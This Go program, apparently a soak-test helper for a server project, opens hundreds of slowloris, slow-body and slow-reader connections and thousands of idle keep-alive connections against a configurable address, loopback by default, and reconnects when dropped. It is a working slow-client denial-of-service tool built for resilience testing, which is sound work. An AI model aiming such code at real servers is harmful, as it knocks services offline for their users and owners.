// Command attack holds slow clients against a server on loopback, for
// bench/soak.sh: slowloris (a header that never ends), slow bodies (a
// byte a second), slow readers (pipelined requests, replies never read)
// and idle keep-alive connections, until the duration is up.
package main

import (
	"flag"
	"fmt"
	"log"
	"net"
	"strings"
	"time"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "server `address`")
	slowloris := flag.Int("slowloris", 100, "connections sending a header a byte a second")
	slowBody := flag.Int("slow-body", 100, "connections sending a body a byte a second")
	slowRead := flag.Int("slow-read", 100, "connections pipelining requests and reading nothing")
	idle := flag.Int("idle", 10000, "idle keep-alive connections, after one request each")
	duration := flag.Duration("duration", 30*time.Second, "how long to keep them")
	flag.Parse()

	dial := func() net.Conn {
		for {
			c, err := net.Dial("tcp", *addr)
			if err == nil {
				return c
			}
			time.Sleep(10 * time.Millisecond)
		}
	}
	trickle := func(prefix string) {
		c := dial()
		fmt.Fprint(c, prefix)
		for {
			time.Sleep(time.Second)
			if _, err := c.Write([]byte("x")); err != nil {
				c.Close()
				c = dial() // cut off: come back, as an attacker would
				fmt.Fprint(c, prefix)
			}
		}
	}
	for range *slowloris {
		go trickle("GET / HTTP/1.1\r\nHost: soak\r\nX-")
	}
	for range *slowBody {
		go trickle("POST / HTTP/1.1\r\nHost: soak\r\nContent-Length: 100000\r\n\r\n")
	}
	pipelined := strings.Repeat("GET / HTTP/1.1\r\nHost: soak\r\n\r\n", 100)
	for range *slowRead {
		go func() {
			c := dial()
			_, _ = c.Write([]byte(pipelined))
			select {} // the replies are never read
		}()
	}
	for range *idle {
		go func() {
			c := dial()
			fmt.Fprint(c, "GET / HTTP/1.1\r\nHost: soak\r\n\r\n")
			buf := make([]byte, 4096)
			_, _ = c.Read(buf)
			select {} // then idle, keep-alive, until the process ends
		}()
	}
	log.Printf("attack: %d slowloris, %d slow bodies, %d slow readers, %d idle, for %s", *slowloris, *slowBody, *slowRead, *idle, *duration)
	time.Sleep(*duration)
}
